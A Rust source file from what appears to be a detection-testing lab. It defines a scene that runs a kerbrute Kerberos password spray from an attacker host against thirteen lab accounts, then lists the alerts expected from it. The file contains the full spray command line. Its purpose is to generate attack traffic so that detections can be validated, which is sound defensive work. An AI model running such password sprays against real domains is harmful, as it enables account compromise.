//! Password spray with kerbrute (impacket's Kerberos stack).

use anyhow::Result;

use crate::accounts::{PEOPLE, SPRAYED};
use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "spray-kerbrute",
    "Password spray over thirteen accounts (kerbrute)",
    Tool::python("kerbrute", "kerbrute"),
    &[Expected {
        external_id: 2023,
        source: ATTACKER,
        account: None,
        targets: &[
            "alice@hawk.example",
            "bob@hawk.example",
            "niaj@hawk.example",
        ],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    let attacker = lab.host("attacker")?;
    attacker.write_private("users", format!("{}\n{SPRAYED}\n", PEOPLE.join("\n")))?;
    attacker.script(
        r#"kerbrute -users users -password "$SPRAYED_PASSWORD" -domain "$DOMAIN" -dc-ip "$DC" \
               -no-save-ticket | grep 'Valid user => niaj'"#,
    )?;
    Ok(())
}
